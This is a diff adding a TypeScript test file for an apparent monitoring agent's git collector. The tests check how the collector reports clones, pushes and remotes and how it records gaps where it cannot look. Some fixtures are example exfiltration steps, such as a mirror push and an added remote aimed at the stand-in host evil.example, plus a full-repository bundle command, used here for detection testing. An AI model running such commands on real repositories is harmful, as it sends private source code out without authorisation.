@@ -1,0 +1,175 @@
+import assert from 'node:assert/strict'
+import type { Collector } from '../../../../agent/collect.ts'
+import { repositories } from '../../../../agent/collectors/linux/repositories.ts'
+import type { Observation } from '../../../../wire/event.ts'
+import type { Policy } from '../../../../wire/messages.ts'
+import { deniedFolder, type FakeHost, fakeHost, policy, put, watchPolls } from '../../fake-host.ts'
+
+const SOURCE: Policy = { ...policy, watchedRoots: [{ path: '/home/ann/src', kind: 'source' }] }
+const ORIGIN = (url: string) => `[remote "origin"]\n\turl = ${url}\n`
+const CLONED = `${'0'.repeat(40)} ${'a'.repeat(40)} Ann <ann@example.com> 1 +0000\tclone: from x\n`
+const said = (polls: Observation[][]) =>
+  polls.map((poll) =>
+    poll.map((it) =>
+      it.category === 'repository'
+        ? `${it.Action} ${it.Host} ${it.Namespace} ${it.Bytes}`
+        : it.category === 'collection_gap'
+          ? `gap ${it.About} ${it.Reason}`
+          : it.category,
+    ),
+  )
+/** As many polls as pass until the roots are swept again. */
+const MINUTE = Array.from({ length: 12 }, () => () => {})
+
+function repository(host: FakeHost, at: string, url: string, more: { log?: string; pack?: number } = {}): void {
+  put(host.tree, `${at}/.git/HEAD`, 'ref: refs/heads/main\n')
+  put(host.tree, `${at}/.git/config`, ORIGIN(url))
+  if (more.log) put(host.tree, `${at}/.git/logs/HEAD`, more.log)
+  if (more.pack) put(host.tree, `${at}/.git/objects/pack/pack-1.pack`, { data: '', size: more.pack })
+}
+const running = (host: FakeHost, pid: number) => put(host.tree, `/proc/${pid}/stat`, 'x')
+const ended = (host: FakeHost, pid: number) => put(host.tree, `/proc/${pid}`, undefined)
+function begin(
+  watched: ReturnType<typeof repositories>,
+  pid: number,
+  line: string,
+  folder: string | null = '/home/ann',
+) {
+  watched.onProgram({ pid, image: '/usr/bin/git', args: line.split(' '), folder })
+}
+
+describe('repositories', () => {
+  it('a clone is told when it ended, with the size it left; one that failed is not', async () => {
+    const host = fakeHost({})
+    const code = repositories()
+    const polls = await watchPolls(code.collector, host, [
+      () => {
+        running(host, 7)
+        running(host, 8)
+        begin(code, 7, 'git clone https://ann:pw@github.com/acme/api.git')
+        begin(code, 8, 'git clone https://github.com/acme/gone.git')
+      },
+      () => ended(host, 8),
+      () => {
+        repository(host, '/home/ann/api', 'x', { pack: 5_000 })
+        ended(host, 7)
+      },
+    ])
+    assert.deepEqual(said(polls), [[], [], [], ['clone github.com acme 5000']])
+    assert.doesNotMatch(JSON.stringify(polls), /pw|api/)
+  })
+
+  it('a push goes where the config says, and a remote by name is looked up', async () => {
+    const host = fakeHost({})
+    repository(host, '/home/ann/api', 'git@github.com:acme/api.git')
+    const code = repositories()
+    const polls = await watchPolls(code.collector, host, [
+      () => begin(code, 7, 'git push', '/home/ann/api/src/deep'),
+      () => begin(code, 7, 'git push nobody', '/home/ann/api'),
+      () => begin(code, 7, 'git push --mirror https://evil.example/me/x.git', null),
+      () => begin(code, 7, 'git remote add mine gitlab.com:me/x', '/home/ann/api'),
+      () => begin(code, 7, 'git bundle create x --all', '/home/ann/api'),
+      () => begin(code, 7, 'git push', null),
+    ])
+    assert.deepEqual(said(polls).slice(1), [
+      ['push github.com acme null'],
+      ['push null null null'],
+      ['mirror evil.example me null'],
+      ['remote_added gitlab.com me null'],
+      ['bundle null null null'],
+      ['push null null null'],
+    ])
+  })
+
+  it('the same within an hour is told once', async () => {
+    const host = fakeHost({})
+    const code = repositories()
+    const push = () => begin(code, 7, 'git push https://h/a/b', null)
+    const hour = () => {
+      host.clock += 3_600_000
+      push()
+    }
+    assert.deepEqual(said(await watchPolls(code.collector, host, [push, push, hour])), [
+      [],
+      ['push h a null'],
+      [],
+      ['push h a null'],
+    ])
+  })
+
+  it('source roots: what is there first is the baseline; then clones, new remotes and changed ones', async () => {
+    const host = fakeHost({})
+    repository(host, '/home/ann/src/old', 'git@github.com:acme/old.git')
+    const polls = await watchPolls(
+      repositories().collector,
+      host,
+      [
+        ...MINUTE.slice(1),
+        () => {
+          repository(host, '/home/ann/src/team/new', 'git@github.com:acme/new.git', { log: CLONED, pack: 9 })
+          repository(host, '/home/ann/src/mine', 'git@github.com:me/mine.git')
+          put(host.tree, '/home/ann/src/half/.git/objects/pack/tmp_pack_x', '')
+          repository(host, '/home/ann/src/half', 'git@github.com:acme/half.git', { log: CLONED })
+        },
+        ...MINUTE.slice(1),
+        () => {
+          put(
+            host.tree,
+            '/home/ann/src/old/.git/config',
+            `${ORIGIN('git@github.com:acme/old.git')}[remote "x"]\nurl = https://evil.example/me/old\n`,
+          )
+          put(host.tree, '/home/ann/src/half/.git/objects/pack/tmp_pack_x', undefined)
+        },
+      ],
+      SOURCE,
+    )
+    const told = said(polls)
+    assert.deepEqual(told[0], [])
+    assert.deepEqual(told[12], ['clone github.com acme 9'])
+    // One that does not say it is a clone may be one that is not over yet, so it waits a sweep.
+    assert.deepEqual(told[24]?.toSorted(), [
+      'clone github.com acme 0',
+      'remote_added evil.example me null',
+      'remote_added github.com me null',
+    ])
+    assert.equal(told.flat().length, 4)
+  })
+
+  it('what came while the agent was away is news, and a restart alone is not', async () => {
+    const host = fakeHost({})
+    repository(host, '/home/ann/src/old', 'git@github.com:acme/old.git')
+    const first = await watchPolls(repositories().collector, host, [], SOURCE)
+    const again = await watchPolls(repositories().collector, host, [], SOURCE)
+    repository(host, '/home/ann/src/new', 'git@github.com:acme/new.git', { log: CLONED })
+    const away = await watchPolls(repositories().collector, host, [], SOURCE)
+    assert.deepEqual(
+      [first, again, away].map((it) => said(it).flat()),
+      [[], [], ['clone github.com acme null']],
+    )
+  })
+
+  it('a clone seen as a process and in its folder is one', async () => {
+    const host = fakeHost({ '/home/ann/src/x': '' })
+    const code = repositories()
+    const polls = await watchPolls(
+      code.collector,
+      host,
+      [
+        () => {
+          begin(code, 7, 'git clone https://github.com/acme/api', '/home/ann/src')
+          repository(host, '/home/ann/src/api', 'https://github.com/acme/api', { log: CLONED, pack: 3 })
+        },
+        ...MINUTE,
+      ],
+      SOURCE,
+    )
+    assert.deepEqual(said(polls).flat(), ['clone github.com acme 3'])
+  })
+
+  it('says where it cannot look', async () => {
+    const blind: Collector = repositories().collector
+    assert.deepEqual(said(await watchPolls(blind, fakeHost({ '/home/ann/src': deniedFolder }), [], SOURCE)), [
+      ['gap /home/ann/src denied'],
+    ])
+  })
+})
